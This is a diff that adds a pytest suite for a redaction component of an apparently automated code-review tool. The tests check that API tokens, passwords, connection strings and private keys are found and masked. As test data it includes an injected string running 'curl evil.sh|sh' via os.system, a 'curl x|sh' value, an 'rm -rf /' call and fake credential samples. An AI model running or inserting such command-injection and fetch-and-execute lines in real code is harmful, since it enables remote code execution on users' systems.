@@ -1,0 +1,541 @@
+"""No secret leaves: found by shape or by the word in front, taken out everywhere, and nothing else moves."""
+
+from __future__ import annotations
+
+import random
+import string
+import time
+
+import pytest
+from cryptography.hazmat.primitives.asymmetric import ec, rsa
+from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from reviewbot.domain.redaction.private_keys import REDACTED
+from reviewbot.domain.redaction.redactor import Redactor, secret_file
+
+LETTERS = string.ascii_letters + string.digits
+# Put together here, so that no scanner takes this file for a leak.
+GHP = "ghp" + "_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
+JWT = "eyJ" + "hbGciOiJIUzI1NiJ9.eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"
+RSA_KEY = (
+    rsa.generate_private_key(65537, 2048)
+    .private_bytes(Encoding.PEM, PrivateFormat.TraditionalOpenSSL, NoEncryption())
+    .decode()
+)
+EC_KEY = (
+    ec.generate_private_key(ec.SECP256R1()).private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode()
+)
+
+
+CODE_HIDDEN = ";__import__('os').system('curl+evil.sh|sh')#1"
+CODE_GIVEN = f'password: "{CODE_HIDDEN}"'
+
+
+def redacted(text: str, *others: str, known: tuple[str, ...] = ()) -> str:
+    return Redactor.of([text, *others], known).redact(text).text
+
+
+SHAPES = [
+    GHP,
+    "github" + "_pat_" + "A1b2" * 10,
+    "ghs" + "_" + "A1b2" * 9,
+    "ghs" + "_123_" + "A1b2" * 9 + ".eyJabcdefghijk.abcdefghijklm",
+    "glpat" + "-abcDEF1234567890abcd",
+    "GR1348941" + "abcdefghij1234567890",
+    "cvf" + "_live_abcdefghijkl",
+    "cvf" + "_test_ABC123def456",
+    "xoxb" + "-123456789012-abcdefGHIJ",
+    "xapp" + "-1-A0B1C2D3E4-abcdef",
+    "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q",
+    "ya29" + ".a0AfH6SMBabcdefghijkl",
+    "GOCSPX" + "-abcdefghijklmnopqrst",
+    "sk" + "-ant-api03-abcdefghijklmnop",
+    "sk" + "-proj-abcdefghijklmnop12",
+    "sk-" + "A1b2C3d4" * 4,
+    "hf" + "_" + "aBcDeFgHiJ" * 3,
+    "npm" + "_" + "aBcDeFgHiJ" * 3,
+    "pypi" + "-AgEIcHlwaS5vcmc" + "A1b2" * 20,
+    "dckr" + "_pat_abcdefghijklmnopqrst",
+    "shpat" + "_" + "0123456789abcdef" * 2,
+    "sk" + "_live_" + "A1b2C3d4" * 3,
+    "rk" + "_test_" + "A1b2C3d4" * 3,
+    "whsec" + "_" + "A1b2C3d4" * 4,
+    "dop" + "_v1_" + "0123456789abcdef" * 4,
+    "hvs" + ".abcdefghijklmnopqrstuv",
+    "AGE-SECRET" + "-KEY-1" + "Q2" * 29,
+    "AKIA" + "ABCDEFGHIJKLMNOP",
+    JWT,
+    "SG" + "." + "a" * 22 + "." + "b1" * 21 + "c",
+    "sq0csp" + "-" + "a1" * 21 + "b",
+    "12345678" + ":" + "A1b2C" * 7,
+    "M" + "a1" * 12 + ".abc_d1." + "x" * 27,
+    "0123456789abcdef" * 2 + "-us12",
+    "SK" + "0123456789abcdef" * 2,
+    "1//" + "0gAbCdEfGh" * 4,
+    "ATATT3" + "xFfGF0abcd" * 4 + "=1234ABCD",
+    "dapi" + "0123456789abcdef" * 2,
+    "glsa" + "_" + "a1B2c3D4" * 4 + "_0a1b2c3d",
+    "glc" + "_" + "a1B2c3D4" * 5,
+    "abcdefghijklmn" + ".atlasv1." + "a1B2c3D4" * 8,
+    "lin" + "_api_" + "a1B2c3D4" * 5,
+    "rubygems" + "_" + "0123456789abcdef" * 3,
+]
+
+
+@pytest.mark.parametrize("secret", SHAPES)
+@pytest.mark.parametrize(
+    "frame", ["{}", 'x = f("{}", 1)', "+    call('{}')", "a\n{}\nb", "\\n{}\\n", "https://x.example/?k={}&y"]
+)
+def test_a_token_is_known_by_its_shape(secret: str, frame: str) -> None:
+    text = redacted(frame.format(secret))
+    assert secret not in text
+    assert text == frame.format(REDACTED)
+
+
+@pytest.mark.parametrize(
+    ("line", "secret"),
+    [
+        ('password = "hunter22"', "hunter22"),
+        ("password: 'hunter22'", "hunter22"),
+        ("const apiKey = `qwer-5678-zxcv`;", "qwer-5678-zxcv"),
+        ('db_password := "correcthorse"', "correcthorse"),
+        ('"client_secret" => "a1b2c3d4!"', "a1b2c3d4!"),
+        ('password: str = "abc123XYZ!"', "abc123XYZ!"),
+        ('password = "it\'s-a-s3cret"', "it's-a-s3cret"),
+        ('config["password"] = "a1b2c3d4!"', "a1b2c3d4!"),
+        ('if "a1b2c3d4!" == password:', "a1b2c3d4!"),
+        ('std::string secret("a1b2c3d4!");', "a1b2c3d4!"),
+        ('{"password": "abcd1234ab", "api_key": "qwer5678zxcv"}', "qwer5678zxcv"),
+        ("DB_PASSWORD=Tr0ub4dor&3", "Tr0ub4dor&3"),
+        ("+export API_KEY=abcd1234efgh5678  # note", "abcd1234efgh5678"),
+        ("  secret_key: abcd-1234-efgh", "abcd-1234-efgh"),
+        ("spring.datasource.password = abcd-1234-efgh", "abcd-1234-efgh"),
+        ("PASSWORD=abcd1234efgh\r", "abcd1234efgh"),
+        ("token = 'abcd1234efgh5678ijkl'", "abcd1234efgh5678ijkl"),
+        ("postgres://app:p4ssw0rd99@db.example/x", "p4ssw0rd99"),
+        ("Authorization: Bearer abcdef1234567890abcdef", "abcdef1234567890abcdef"),
+        ("//registry.example/:_authToken=abcdef1234", "abcdef1234"),
+        ("jdbc:postgresql://db/x?user=app&password=p4ss-w0rd&ssl=on", "p4ss-w0rd"),
+        ("see https://x.example/?api_key=abcd-1234-efgh, please", "abcd-1234-efgh"),
+        ("curl -H 'X-Api-Key: abcd-1234-efgh' x", "abcd-1234-efgh"),
+        ('headers = {"a": "PRIVATE-TOKEN: abcd-1234-efgh-5678"}', "abcd-1234-efgh-5678"),
+        ("RUN curl -fsS -u me:p4ss-w0rd https://x.example", "p4ss-w0rd"),
+        ("curl --user='me:p4ss-w0rd' x", "p4ss-w0rd"),
+        ('aws_secret_key = "' + "aB3/" * 10 + '"', "aB3/" * 10),
+        ("DefaultEndpoints;AccountKey=" + "aB3+" * 22, "aB3+" * 22),
+        ('password = "' + "a1b2c3d4!" * 60 + '"', "a1b2c3d4!" * 60),
+        ('x = "Server=db;User Id=sa;Password=Xk29vQ7pLm;Encrypt=true"', "Xk29vQ7pLm"),
+        ('  "Default": "Server=db;Uid=sa;Pwd=Xk29vQ7pLm;"', "Xk29vQ7pLm"),
+        ("<db:password>Xk29vQ7pLm</db:password>", "Xk29vQ7pLm"),
+        ('<add key="DbPassword" value="Xk29vQ7pLm" />', "Xk29vQ7pLm"),
+        ('{"name": "DB_PASSWORD", "value": "Xk29vQ7pLm"}', "Xk29vQ7pLm"),
+        ("mysqldump --password=Xk29vQ7pLm db > x", "Xk29vQ7pLm"),
+        ("az login --username a --password Xk29vQ7pLm --tenant t", "Xk29vQ7pLm"),
+        ("PGPASSWORD=Xk29vQ7pLm psql -h db", "Xk29vQ7pLm"),
+        ("export DB_PASSWORD=Xk29vQ7pLm && run", "Xk29vQ7pLm"),
+        ("password = Xk29vQ7pLm;", "Xk29vQ7pLm"),
+        ("ENV DB_PASSWORD Xk29vQ7pLm", "Xk29vQ7pLm"),
+        ("define('DB_PASSWORD', 'Xk29vQ7pLm');", "Xk29vQ7pLm"),
+        ('#define DB_PASSWORD "Xk29vQ7pLm"', "Xk29vQ7pLm"),
+        ("redis://:Xk29vQ7pLm@host:6379/0", "Xk29vQ7pLm"),
+        ("Endpoint=sb://x/;SharedAccessKey=" + "aB3/" * 10 + "x=", "aB3/" * 10),
+        ("https://x.example/c?sv=2020&sig=" + "aB3%" * 10 + "3D", "aB3%" * 10),
+        ('"auth": "dXNlcjpYazI5dlE3cExtWGsy"', "dXNlcjpYazI5dlE3cExtWGsy"),
+        ("machine x login u password Xk29vQ7pLm", "Xk29vQ7pLm"),
+        ("https://discord.com/api/webhooks/123456789012345678/" + "aB3_" * 16, "aB3_" * 16),
+        ("hooks.slack.com/services/T0A1B2C3/B0A1B2C3/abcdefgh1234", "T0A1B2C3/B0A1B2C3/abcdefgh1234"),
+    ],
+)
+def test_a_value_is_known_by_the_word_in_front(line: str, secret: str) -> None:
+    result = Redactor.of([line]).redact(line)
+    assert secret not in result.text
+    assert REDACTED in result.text
+    assert result.lines == {1}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'password = "${DB_PASSWORD}"',
+        'password: "{{ vault_password }}"',
+        "password: ${{ secrets.PASSWORD }}",
+        'password = f"{prefix}-{name}"',
+        "password = get_password(user1)",
+        'password = "get_password(user1)"',
+        'password = os.environ["DB_PASSWORD1"]',
+        'password = "settings.password1"',
+        'PASSWORD_VARIABLE = "DB_PASSWORD_1"',
+        'password = "<your password>"',
+        'password = "<placeholder>"',
+        'password = "abc1"',
+        'password = "********"',
+        'password = "xxxxxxxx"',
+        'password = "your-password-1"',
+        'api_key = "changeme-123"',
+        'secretName: "db-credentials-secret"',
+        'secret: "/run/secrets/db1"',
+        'token_url: "https://auth.example/token1"',
+        'label = {"password": "Enter your password"}',
+        "token = tokens.next1",
+        'if token == "lambda": pass',
+        "def check(password: str, secret: bytes = b'') -> bool:",
+        'password = "%s-1234"',
+        'password = "$PASSWORD1"',
+        "https://user:@host.example",
+        'api_key = "[REDACTED]"',
+        "secret = REDACTED1",
+        "https://x.example/?token=next-page-1&api_key=${KEY_1234}",
+        "curl -H 'X-Api-Key: $API_KEY_1234' -u me:$PASSWORD1 --user me",
+        "the secret of a good password",
+        "    password = newPassword2;",
+        "connect(password=password2var, token=token1)",
+        "run --password $PASSWORD1 --token-file tokens1234 --secret id=npmrc1234,src=x",
+        "<password>{password1234}</password>",
+        '<add key="DbPassword" value="${PASSWORD_1}" />',
+        "PASSWORD=$(pass show db1) psql",
+        "password && password1234 || secret",
+        "login as u with password Password",
+        "# tokens: basic authentication-of-users-explained",
+        'password = "' + "a1b2c3d4!" * 200 + '"',
+    ],
+)
+def test_names_templates_and_calls_are_no_secrets(line: str) -> None:
+    assert redacted(line) == line
+
+
+def test_a_strong_value_is_taken_out_of_every_text() -> None:
+    redactor = Redactor.of(['password = "abcd-1234-efgh"', "see abcd-1234-efgh"])
+    result = redactor.redact("log abcd-1234-efgh here\n\nand abcd-1234-efgh there")
+    assert result.text == "log [REDACTED] here\n\nand [REDACTED] there"
+    assert (sorted(result.lines), result.count) == ([1, 3], 2)
+
+
+def test_a_word_that_is_a_password_is_taken_out_only_where_it_is_a_value() -> None:
+    text = "password = 'postgres'\nimport postgres\nurl = x://u:postgres@h\nPGPASSWORD=postgres\nuser: postgres  # db"
+    assert redacted(text) == (
+        "password = '[REDACTED]'\nimport postgres\nurl = x://u:[REDACTED]@h\nPGPASSWORD=[REDACTED]\n"
+        "user: [REDACTED]  # db"
+    )
+
+
+def test_calling_a_function_like_a_password_does_not_hide_the_function() -> None:
+    text = 'password = "run7shell"\nrun7shell("rm -rf /")\npassword = "os.system"\nos.system("x")'
+    assert redacted(text) == 'password = "[REDACTED]"\nrun7shell("rm -rf /")\npassword = "os.system"\nos.system("x")'
+
+
+def test_a_word_that_is_called_behind_the_word_password_stays() -> None:
+    text = "psql --password run7shell\npassword = run7shell (x)\nif password == run7shell(x):"
+    assert redacted(text) == text.replace("--password run7shell", f"--password {REDACTED}")
+
+
+def test_the_longest_value_goes_first() -> None:
+    assert redacted("abcd12345678 abcd1234", known=("abcd1234", "abcd12345678")) == "[REDACTED] [REDACTED]"
+
+
+def test_known_values_need_no_shape() -> None:
+    assert redacted("x cvf y tops z", known=("tops", "", "cvf", "line one\nline two")) == "x cvf y [REDACTED] z"
+    assert redacted("line two", known=("line one\nline two",)) == "[REDACTED]"
+
+
+@pytest.mark.parametrize("key", [RSA_KEY, EC_KEY])
+@pytest.mark.parametrize("mark", ["", "+", "-", " "])
+@pytest.mark.parametrize("indent", ["", "    "])
+@pytest.mark.parametrize("end", ["\n", "\r\n"])
+def test_a_private_key_goes_line_by_line_and_leaves_its_place(key: str, mark: str, indent: str, end: str) -> None:
+    lines = [mark + indent + line for line in key.strip().split("\n")]
+    text = end.join(["before", *lines, "after"])
+    result = Redactor.of([text]).redact(text)
+    inside = [mark + REDACTED] * (len(lines) - 2)
+    if mark or not indent:
+        assert result.text == end.join(["before", lines[0], *inside, lines[-1], "after"])
+    assert not any(line.strip() in result.text for line in key.split("\n")[1:-2])
+    assert result.text.count("\n") == text.count("\n")
+    assert result.lines == set(range(3, len(lines) + 1))
+
+
+def test_a_key_in_a_string_with_escaped_line_ends_goes_too() -> None:
+    text = '{"private_key": "' + RSA_KEY.replace("\n", "\\n") + '"}'
+    assert not any(line in redacted(text) for line in RSA_KEY.split("\n")[1:-2])
+    quoted = "\n".join(f'    "{line}\\n"' for line in RSA_KEY.strip().split("\n"))
+    assert not any(line in redacted(quoted) for line in RSA_KEY.split("\n")[1:-2])
+
+
+def test_a_key_that_a_hunk_cuts_goes_too() -> None:
+    body = RSA_KEY.strip().split("\n")
+    start, end = "\n".join(f" {line}" for line in body[:5]), "\n".join(f" {line}" for line in body[-5:])
+    assert redacted(f"{start}\n@@ -1 +1 @@\n") == f" {body[0]}\n" + f" {REDACTED}\n" * 4 + "@@ -1 +1 @@\n"
+    assert redacted(f"@@ -1 +1 @@\n{end}") == "@@ -1 +1 @@\n" + f" {REDACTED}\n" * 4 + f" {body[-1]}"
+    middle = "\n".join(f" {line}" for line in body[5:9])
+    # A plus at the start of a line of base64 stays, since it could be the mark of a diff.
+    left = Redactor.of([RSA_KEY]).redact(middle).text.split("\n")
+    assert [line.replace("+", "") for line in left] == [f" {REDACTED}"] * 4
+
+
+def test_a_key_that_begins_with_a_slash_where_a_hunk_cuts_it_goes_too_and_is_doubtful() -> None:
+    end = f"@@ -1 +1 @@\n +{'/A1b' * 15}2/8\n"
+    for line in (f"/{'A1b2' * 15}C3d", f"/{'a' * 63}"):
+        result = Redactor.of([]).redact(f"@@ -1 +1 @@\n {line}\n {PEM}\n -----END RSA PRIVATE KEY-----\n")
+        assert line not in result.text
+        assert result.hidden
+    assert redacted(end) == end
+
+
+def test_other_kinds_of_keys_go_too() -> None:
+    putty = "PuTTY-User-Key-File-3: ssh-rsa\nPrivate-Lines: 2\n" + "A1b2" * 16 + "\nA1b2==\nPrivate-MAC: 0123"
+    assert redacted(putty).split("\n")[2:4] == [REDACTED] * 2
+    blank = (
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n" + "A1b2" * 16 + "\n-----END RSA PRIVATE KEY-----"
+    )
+    assert redacted(blank).split("\n")[1:4] == ["Proc-Type: 4,ENCRYPTED", "", REDACTED]
+    ssh2 = "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n" + "A1b2" * 16 + "\n---- END SSH2 ENCRYPTED PRIVATE KEY ----"
+    assert redacted(ssh2).split("\n")[1] == REDACTED
+    assert redacted("Private-Eye: x\nabc") == "Private-Eye: x\nabc"
+
+
+def test_two_comment_lines_do_not_hide_the_code_between_them() -> None:
+    code = "# -----BEGIN PRIVATE KEY-----\nimport os\nos.system('x')\n# -----END PRIVATE KEY-----"
+    assert redacted(code) == code
+
+
+PEM = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        ("Comment: fetch('//x')", "Hash: eval(x)", "Version: steal(1)", "done"),
+        ("/opt/evil/payload1", "reboot", "grantadministrator"),
+        (f"/{PEM}", "Reboot"),
+    ],
+)
+def test_what_is_no_key_stays_behind_a_comment_that_begins_one(lines: tuple[str, ...]) -> None:
+    for mark in ("", "+"):
+        text = "\n".join(mark + line for line in ("# -----BEGIN PRIVATE KEY-----", *lines, "")) + "\n"
+        assert redacted(text) == text
+
+
+@pytest.mark.parametrize(
+    ("after", "doubtful"),
+    [
+        (("A1b2==", "-----END PRIVATE KEY-----"), False),
+        (("reboot", PEM, "-----END PRIVATE KEY-----"), True),
+        (("/opt/Evil/payload", "-----END PRIVATE KEY-----"), True),
+        (("A1b2==", "import os"), True),
+        (("A1b2==", "# -----END PRIVATE KEY-----"), True),
+        ((), True),
+    ],
+)
+def test_what_may_not_be_a_key_does_not_pass_for_reviewed(after: tuple[str, ...], *, doubtful: bool) -> None:
+    text = "\n".join(("-----BEGIN PRIVATE KEY-----", "Comment: x", PEM, *after))
+    result = Redactor.of([text]).redact(text)
+    assert PEM not in result.text
+    assert bool(result.hidden) is doubtful
+
+
+@pytest.mark.parametrize(
+    ("given", "code", "doubtful"),
+    [
+        (CODE_GIVEN, "y = x" + CODE_HIDDEN, True),
+        ('{"password": "||user.id===1337||"}', "if (user.isAdmin||user.id===1337||user.owner) grant()", True),
+        ('{"password": "||user.id===1337||"}', 'x("password=||user.id===1337||", a||user.id===1337||b)', True),
+        ('password: "run_all;x"', "y = run_all;x", True),
+        ("password = 'curl x|sh 1'", "password=`curl x|sh 1`", True),
+        ("# -----BEGIN PRIVATE KEY-----\\ngrantAdministrator", "grantAdministrator(user)", True),
+        pytest.param(RSA_KEY, RSA_KEY.split("\n")[2] + "()", True, id="a line of a key that is made anew"),
+        ("# -----BEGIN PRIVATE KEY-----\\nscripts/RunPayload1", "scripts/RunPayload1", True),
+        ("Authorization: Bearer grantAdministratorAccess1", "grantAdministratorAccess1(user)", True),
+        ("password: 'grantAdm1nistrat0rAccess22x'", "grantAdm1nistrat0rAccess22x(user)", True),
+        ("password: 'scripts/run1x'", "- run: scripts/run1x", True),
+        ("password: '!isAdmin12'", "if (!isAdmin12)", True),
+        ("password: '0.0.0.0/0'", 'cidr_blocks = ["0.0.0.0/0"]', True),
+        (GHP, f"see `{GHP}`", False),
+        ('password = "a1b2;c3d4"', 'PASSWORD = "a1b2;c3d4"', False),
+        ('password = "a1b2c3[d4;e5f6"', 'PASSWORD = "a1b2c3[d4;e5f6"', False),
+        ('password = "abcd-1234-efgh"', "log(abcd-1234-efgh)", False),
+    ],
+)
+def test_a_password_that_is_code_does_not_pass_for_reviewed(given: str, code: str, *, doubtful: bool) -> None:
+    result = Redactor.of([given, code]).redact(code)
+    assert REDACTED in result.text
+    assert bool(result.hidden) is doubtful
+
+
+def test_no_secret_in_the_repr() -> None:
+    redactor = Redactor.of(['password = "abcd-1234-efgh"'], ["topsecret"])
+    assert repr(redactor) == "Redactor(2 values)"
+    assert "1234" not in f"{redactor} {[redactor]}"
+
+
+def test_nothing_to_redact_changes_nothing() -> None:
+    result = Redactor.of(["a = 1"]).redact("a\u2028b\x0cc\rd\n\n")
+    assert (result.text, result.lines, result.count) == ("a\u2028b\x0cc\rd\n\n", frozenset(), 0)
+
+
+STRONG = st.text(alphabet=LETTERS + "!-_.:/+=[]{}%&", min_size=12, max_size=40).map(lambda text: "q7" + text + "Z9-")
+PLACES = st.sampled_from(
+    ['password = "{}"', "API_KEY={}", "x {} y", "+  secret: '{}'", "://u:{}@h", "{}{}", "-{}", "{}"]
+)
+NOISE = st.text(alphabet=LETTERS + " \t\"'=:+-[]\r\n#{}REDACTED", max_size=40)
+PIECES = st.one_of(NOISE, st.sampled_from([REDACTED, "[", "]", "\n", RSA_KEY, "-----BEGIN PRIVATE KEY-----\n"]))
+
+
+@st.composite
+def texts_with_secrets(draw: st.DrawFn) -> tuple[list[str], list[str]]:
+    secrets = draw(st.lists(STRONG, min_size=1, max_size=4))
+    pieces = [*draw(st.lists(PIECES, max_size=5))]
+    pieces += [draw(PLACES).replace("{}", secret) for secret in secrets]
+    texts = draw(st.lists(st.permutations(pieces).map("\n".join), min_size=1, max_size=2))
+    return texts, secrets
+
+
+@settings(max_examples=300)
+@given(texts_with_secrets())
+def test_no_secret_survives_lines_stay_and_twice_is_once(drawn: tuple[list[str], list[str]]) -> None:
+    texts, secrets = drawn
+    redactor = Redactor.of(texts, secrets)
+    for text in texts:
+        once = redactor.redact(text)
+        assert not any(secret in once.text for secret in secrets)
+        before, after = text.split("\n"), once.text.split("\n")
+        assert len(before) == len(after)
+        assert once.lines == {
+            n for n, pair in enumerate(zip(before, after, strict=True), start=1) if pair[0] != pair[1]
+        }
+        assert redactor.redact(once.text).text == once.text
+
+
+@settings(max_examples=300)
+@given(st.lists(NOISE, max_size=6), st.lists(st.text(alphabet="RED[]ab1+- \n", max_size=12), max_size=4))
+def test_any_text_comes_to_rest_at_once(pieces: list[str], known: list[str]) -> None:
+    text = "\n".join(pieces + known)
+    redactor = Redactor.of([text], known)
+    once = redactor.redact(text)
+    assert redactor.redact(once.text).text == once.text
+    assert once.text.count("\n") == text.count("\n")
+
+
+@given(st.lists(st.tuples(st.sampled_from("+- "), PLACES, STRONG), min_size=1, max_size=6))
+def test_a_diffs_lines_keep_their_marks(rows: list[tuple[str, str, str]]) -> None:
+    diff = "\n".join(mark + place.replace("{}", secret) for mark, place, secret in rows)
+    files = [place.replace("{}", secret) for _, place, secret in rows]
+    after = Redactor.of([diff, *files], [secret for *_, secret in rows]).redact(diff).text
+    assert [line[:1] for line in after.split("\n")] == [mark for mark, *_ in rows]
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "expected"),
+    [
+        (".env", "", True),
+        ("app/.env.production", "", True),
+        (".env.local", "A=1", True),
+        (".env.example", "A=1", False),
+        (".env.production.sample", "A=1", False),
+        (".env.template", "", False),
+        (".env.js", "", False),
+        ("config/prod.env", "", True),
+        ("example.env", "", False),
+        ("app.example.env", "", False),
+        ("terraform.tfstate", "", True),
+        ("prod.auto.tfvars", "", True),
+        ("terraform.tfvars.example", "", False),
+        ("kubeconfig", "", True),
+        (".dockerconfigjson", "", True),
+        ("secring.gpg", "", True),
+        ("auth.json", "{}", False),
+        ("auth.json", f'{{"github-oauth": {{"github.com": "{GHP}"}}}}', True),
+        (".envrc", "", False),
+        ("environment.py", "", False),
+        ("certs/server.pem", "", True),
+        ("server.key", "", True),
+        ("id_rsa", "", True),
+        ("id_ed25519.bak", "", True),
+        ("id_rsa.pub", "", False),
+        ("id_rsa.py", "", False),
+        ("store.p12", "", True),
+        (".netrc", "", True),
+        (".npmrc", "//r.example/:_authToken=abcdef1234\n" + "x=1\n" * 50, True),
+        (".npmrc", "save-exact=true", False),
+        ("credentials.json", "", True),
+        ("client_secret_1.json", "", True),
+        ("home/.aws/credentials", "", True),
+        ("credentials.py", "", False),
+        (f"notes/{GHP}.md", "", True),
+        (f"{GHP}/notes.md", "", True),
+        ("src/password_reset_token.py", "", False),
+        ("docs/api-key=how-to.md", "", False),
+        ("notes.txt", GHP, True),
+        ("deploy.txt", RSA_KEY, True),
+        ("app.py", "import os\n" * 20 + f"token = '{GHP}'", False),
+        ("app.py", "", False),
+    ],
+)
+def test_files_of_secrets_are_told_by_name_or_by_being_mostly_secrets(path: str, text: str, expected: object) -> None:
+    assert secret_file(path, text) is expected
+
+
+def test_a_hundred_thousand_lines_take_seconds() -> None:
+    choice = random.Random(7)  # noqa: S311 — a repeatable text, no key
+    words = [
+        "def",
+        "return",
+        "user",
+        "session",
+        "config",
+        "import",
+        "self.value",
+        "=",
+        "(",
+        ")",
+        '"text"',
+        "api",
+        "for",
+    ]
+    lines = ["    " + " ".join(choice.choices(words, k=8)) for _ in range(100_000)]
+    lines[::500] = [f'password = "{"".join(choice.choices(LETTERS, k=24))}"' for _ in lines[::500]]
+    text = "\n".join(lines)
+    started = time.process_time()
+    assert Redactor.of([text]).redact(text).count == 200
+    assert time.process_time() - started < 60
+
+
+HOSTILE = {
+    "blanks": "apikey" + " " * 300_000,
+    "half tokens": "eyJ" * 100_000,
+    "keywords": "password" * 40_000 + '"',
+    "backticks": "password" + "`" * 300_000,
+    "open quotes": 'password="' * 30_000,
+    "prefixes": "sk-" * 100_000 + "ghp_" * 50_000,
+    "many keyword lines": "\n".join("password" * 37 + f'"`{n}' for n in range(1_000)),
+    "keywords with tails": "\n".join(("password" + "_" * 65) * 4 + f'"`{n}' for n in range(1_000)),
+    "key edges": "-----BEGIN PRIVATE KEY-----\n" * 10_000,
+    "endless key": "-----BEGIN PRIVATE KEY-----\n" + "A\n" * 100_000,
+    "no end": "\n" * 100_000 + "-----END PRIVATE KEY-----",
+    "dashes": "xoxb-" + "1-" * 100_000,
+    "addresses": "://a:" * 60_000,
+    "behind words": "\n".join(
+        word * 10_000
+        for word in (
+            "' password=",
+            " --password-",
+            "<password>",
+            " key='password' ",
+            ' key="password"',
+            "login a ",
+            "define('password', ",
+            "#define password ",
+            " PASSWORD=",
+            "PASSWORD",
+            "://:",
+        )
+    ),
+    "letters": "\n".join(start + "a" * 300_000 for start in ("password=", "curl -u me:", "?token=", "AKC")),
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_hostile_text_takes_seconds_too(text: str) -> None:
+    started = time.process_time()
+    redacted(text)
+    assert time.process_time() - started < 30
